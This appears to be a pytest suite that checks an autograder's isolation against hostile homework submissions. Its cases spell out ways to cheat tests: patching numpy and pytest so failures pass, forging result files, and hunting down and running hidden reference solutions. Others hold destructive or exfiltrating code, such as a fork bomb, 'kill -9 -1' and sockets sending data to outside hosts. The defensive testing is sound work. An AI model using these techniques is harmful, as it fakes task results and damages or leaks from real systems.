"""Hostile and broken hw1 submissions: none may gain credit, the grader never falls over.

Victim cases break tanh_forward and attack the grader; they must score exactly the baseline
(the reference with tanh_forward broken and no attack). Import-time kills score 0. Correct
submissions that print floods score full marks.
"""
from __future__ import annotations

import json
import textwrap

import pytest

from .conftest import BROKEN_VICTIM, grade_submission


def victim(body: str) -> str:
    """A tanh_forward whose body is `body` (indented for us)."""
    return "\n\ndef tanh_forward(x):\n" + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n"


# name -> (code appended to layers.py, extra files)
VICTIM_CASES = {
    "patch_numpy_allclose": (textwrap.dedent("""
        import numpy as _np
        _np.allclose = lambda *a, **k: True
        _np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(a, b).shape, bool)
        _np.array_equal = lambda *a, **k: True
        _np.max = lambda *a, **k: 0.0
        _np.testing.assert_allclose = lambda *a, **k: None
        _np.testing.assert_array_equal = lambda *a, **k: None
        """) + BROKEN_VICTIM, {}),
    "patch_builtins": (textwrap.dedent("""
        import builtins
        builtins.abs = lambda x: 0
        builtins.all = lambda x: True
        builtins.max = lambda *a, **k: 0
        builtins.isinstance = lambda *a: True
        builtins.AssertionError = type("AssertionError", (Exception,), {})
        """) + BROKEN_VICTIM, {}),
    "patch_pytest_internals": (textwrap.dedent("""
        try:
            import pytest, _pytest.runner, _pytest.reports
            pytest.approx = lambda *a, **k: a[0]
            _pytest.reports.TestReport.passed = property(lambda self: True)
            _pytest.reports.TestReport.failed = property(lambda self: False)
            _pytest.runner.call_and_report = lambda item, when, log=True, **kw: None
        except Exception:
            pass
        """) + BROKEN_VICTIM, {}),
    "patch_reference_and_gradcheck": (textwrap.dedent("""
        import sys, types
        for _name in ("autograder.gradcheck", "autograder", "solutions.hw1.layers"):
            try:
                __import__(_name)
            except ImportError:
                pass
        _fake = types.ModuleType("autograder.gradcheck")
        _fake.assert_close = lambda *a, **k: None
        _fake.check_gradients = lambda *a, **k: {}
        sys.modules["autograder.gradcheck"] = _fake
        for _m in list(sys.modules.values()):
            if getattr(_m, "tanh_forward", None) is not None and _m.__name__ != __name__:
                _m.tanh_forward = lambda x: (x * 0, None)
        """) + BROKEN_VICTIM, {}),
    "read_hidden_tests_and_solutions": ("", {}),  # filled in below
    "import_solutions_package": (victim("""
        import sys
        for root in (REPO_ROOT, "/tmp", "/root", "."):
            sys.path.insert(0, root)
        from solutions.hw1.layers import tanh_forward as ref
        return ref(x)
        """), {}),
    "print_fake_results": (textwrap.dedent("""
        import json as _json, os as _os
        _fake = {"score": 100.0, "tests": [{"name": "all", "score": 100, "max_score": 100,
                                            "status": "passed"}]}
        print(_json.dumps(_fake))
        print("=== 120 passed in 0.01s ===")
        _os.write(1, (_json.dumps(_fake) + "\\n").encode())
        _os.write(2, b"PASSED\\n")
        """) + BROKEN_VICTIM, {}),
    "sys_exit_in_call": (victim("import sys\nsys.exit(0)"), {}),
    "os_exit_in_call": (victim("import os\nos._exit(0)"), {}),
    "raise_system_exit": (victim("raise SystemExit(0)"), {}),
    "raise_keyboard_interrupt": (victim("raise KeyboardInterrupt"), {}),
    "raise_base_exception": (victim("raise BaseException('no verdict for you')"), {}),
    "infinite_loop_in_call": (victim("while True:\n    pass"), {}),
    "allocate_50_gb": (victim("import numpy as np\nbig = np.ones(50 * 2**30 // 8)\nreturn big, big"), {}),
    "fork_bomb": (victim("""
        import os
        while True:
            os.fork()
        """), {}),
    "write_10_gb_file": (victim("""
        block = b"\\0" * 2**20
        with open("big.bin", "wb") as fh:
            for _ in range(10 * 1024):
                fh.write(block)
        raise NotImplementedError
        """), {}),
    "open_a_socket": (victim("""
        import socket
        for host, port in (("1.1.1.1", 53), ("127.0.0.1", 22), ("localhost", 80)):
            try:
                socket.create_connection((host, port), timeout=0.5).sendall(b"exfiltrate")
            except OSError:
                pass
        raise NotImplementedError
        """), {}),
    "spawn_a_subprocess": (victim("""
        import subprocess
        for cmd in (["sh", "-c", "cat " + REPO_ROOT + "/solutions/hw1/layers.py; ls -R / | head"],
                    ["python3", "-c", "print(1)"], ["kill", "-9", "-1"]):
            try:
                subprocess.run(cmd, capture_output=True, timeout=1)
            except Exception:
                pass
        raise NotImplementedError
        """), {}),
    "eq_always_true": (victim("""
        class Liar:
            def __eq__(self, other):
                return True
            __ne__ = lambda self, other: False
            def __array__(self, *a, **k):
                raise TypeError
        return Liar(), Liar()
        """), {}),
    "ndarray_subclass": (victim("""
        import numpy as np
        class Sub(np.ndarray):
            def __eq__(self, other):
                return np.ones(self.shape, bool)
            def __sub__(self, other):
                return np.zeros(self.shape).view(Sub)
            __rsub__ = __sub__
            def astype(self, *a, **k):
                return self
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
                return np.zeros(np.broadcast(*[np.asarray(i) for i in inputs]).shape)
        out = np.zeros(np.shape(x)).view(Sub)
        return out, out
        """), {}),
    "wrong_dtype_object": (victim("""
        import numpy as np
        out = np.tanh(x).astype(object)
        return out, out
        """), {}),
    "wrong_shape": (victim("""
        import numpy as np
        out = np.tanh(x)[..., None]
        return out, out
        """), {}),
    "nan_output": (victim("""
        import numpy as np
        out = np.full(np.shape(x), np.nan)
        return out, out
        """), {}),
    "ctypes_segfault_in_call": (victim("import ctypes\nctypes.string_at(0)"), {}),
    "submitted_conftest": (BROKEN_VICTIM, {
        "conftest.py": textwrap.dedent("""
            import pytest
            @pytest.hookimpl(hookwrapper=True)
            def pytest_runtest_makereport(item, call):
                outcome = yield
                rep = outcome.get_result()
                rep.outcome = "passed"
            """),
        "pytest.ini": "[pytest]\naddopts = -p no:deepgrade\n",
    }),
    "numpy_shadow_and_sitecustomize": (BROKEN_VICTIM, {
        "numpy.py": "allclose = lambda *a, **k: True\n",
        "sitecustomize.py": "import numpy; numpy.allclose = lambda *a, **k: True\n",
        "usercustomize.py": "import builtins; builtins.all = lambda x: True\n",
    }),
}

READ_SECRETS = victim("""
    import os
    wanted = ("layers.py", "test_layers_hidden.py")
    roots = [REPO_ROOT, "/tmp", "/root", "/home", os.path.expanduser("~"), "/"]
    for top in roots:
        for dirpath, dirnames, filenames in os.walk(top):
            if dirpath.count(os.sep) > 7 or dirpath.startswith(("/proc", "/sys", "/usr", "/dev")):
                dirnames[:] = []
                continue
            if os.path.basename(dirpath) == "hw1" and "solutions" in dirpath and "layers.py" in filenames:
                ns = {}
                exec(open(os.path.join(dirpath, "layers.py")).read(), ns)
                return ns["tanh_forward"](x)
    raise NotImplementedError("nothing to steal")
    """)
VICTIM_CASES["read_hidden_tests_and_solutions"] = (READ_SECRETS, {})


@pytest.mark.parametrize("case", sorted(VICTIM_CASES))
def test_hostile_submission_gets_no_credit(case, rt_course, baseline, tmp_path, root):
    code, extra = VICTIM_CASES[case]
    # Where this checkout lies, so that the attacks aim at the real solutions/ folder.
    code = f"REPO_ROOT = {str(root)!r}\n" + code
    g = grade_submission(rt_course, tmp_path, {"layers.py": code}, extra)
    assert g.score == pytest.approx(baseline.score), g.failed()
    assert set(g.failed()) == set(baseline.failed())
    if extra:
        assert set(extra) <= set(g.data["extra_data"]["ignored"])


def test_overwriting_results_json_has_no_effect(rt_course, baseline, tmp_path):
    out = tmp_path / "out" / "results.json"
    fake = json.dumps({"score": 100.0, "tests": []})
    code = victim(f"""
        import os
        for path in ({str(out)!r}, "results.json", "/tmp/results.json", "../results.json",
                     "/autograder/results/results.json"):
            try:
                os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)
                with open(path, "w") as fh:
                    fh.write({fake!r})
            except OSError:
                pass
        raise NotImplementedError
        """)
    g = grade_submission(rt_course, tmp_path, {"layers.py": code})
    assert g.score == pytest.approx(baseline.score)
    assert json.loads(out.read_text())["score"] == pytest.approx(round(baseline.score, 4))


@pytest.mark.parametrize("case", ["sys_exit", "os_exit", "segfault", "infinite_loop"])
def test_killing_the_import_scores_zero(case, rt_course, tmp_path):
    code = {
        "sys_exit": "import sys\nsys.exit(0)",
        "os_exit": "import os\nos._exit(0)",
        "segfault": "import ctypes\nctypes.string_at(0)",
        "infinite_loop": "while True:\n    pass",
    }[case]
    g = grade_submission(rt_course, tmp_path, {"layers.py": code})
    assert g.score == 0
    assert len(g.failed()) == len(g.result.scorecard.tests) > 0


def test_mutating_inputs_costs_no_other_test(rt_course, baseline, full_part, tmp_path):
    # Returns the right answer, then zeroes its input: student code works on copies, so the
    # test's own array never changes and the answer is judged as it is. The broken rule is a
    # warning line in each test of the part, with the argument named, in grading and in
    # process alike; it is graded by the conventions part only (not selected here).
    code = victim("""
        import numpy as np
        out = np.tanh(x)
        x[...] = 0.0
        return out, out.copy()
        """)
    g = grade_submission(rt_course, tmp_path, {"layers.py": code})
    local = grade_submission(rt_course, tmp_path / "inprocess", {"layers.py": code}, isolation="inprocess")
    assert g.score == pytest.approx(local.score) == pytest.approx(full_part)
    warned = [t for t in g.data["tests"] if "tanh" in t["name"]]
    assert warned and all(t["output"].startswith("warning: tanh_forward() changed the array it was "
                                                 "given as argument 1") for t in warned)


@pytest.mark.parametrize("flood", ["prints", "flood"])
def test_correct_submission_that_prints_gets_full_marks(flood, rt_course, tmp_path):
    if flood == "prints":
        code = textwrap.dedent("""
            print("importing layers " * 1000)
            _real_tanh = tanh_forward
            def tanh_forward(x):
                print("tanh_forward called with", x.shape, "x" * 5000)
                return _real_tanh(x)
            """)
    else:
        code = textwrap.dedent("""
            import os as _os, sys as _sys
            _real_tanh = tanh_forward
            def tanh_forward(x):
                for _ in range(200):
                    _sys.stdout.write("y" * 100_000)
                    _os.write(1, b"z" * 100_000)
                    _os.write(2, b"e" * 100_000)
                return _real_tanh(x)
            """)
    g = grade_submission(rt_course, tmp_path, {"layers.py": code}, select=None)
    total = sum(part.points for part in rt_course.assignment("hw1").parts.values())  # the quiz's too
    assert g.score == pytest.approx(g.result.scorecard.max_score) == pytest.approx(total), g.failed()
    assert g.out.stat().st_size < 1_000_000


# Attacks that do gain credit when student code runs in the grader's own process, as it does
# under nbgrader and otter: proof that the cases above are real attacks, which only the
# worker stops.
@pytest.mark.parametrize("case", ["import_solutions_package", "read_hidden_tests_and_solutions"])
def test_attack_succeeds_without_the_worker(case, rt_course, baseline, tmp_path, root):
    code, extra = VICTIM_CASES[case]
    code = f"REPO_ROOT = {str(root)!r}\n" + code
    g = grade_submission(rt_course, tmp_path, {"layers.py": code}, extra, isolation="inprocess")
    assert g.score > baseline.score
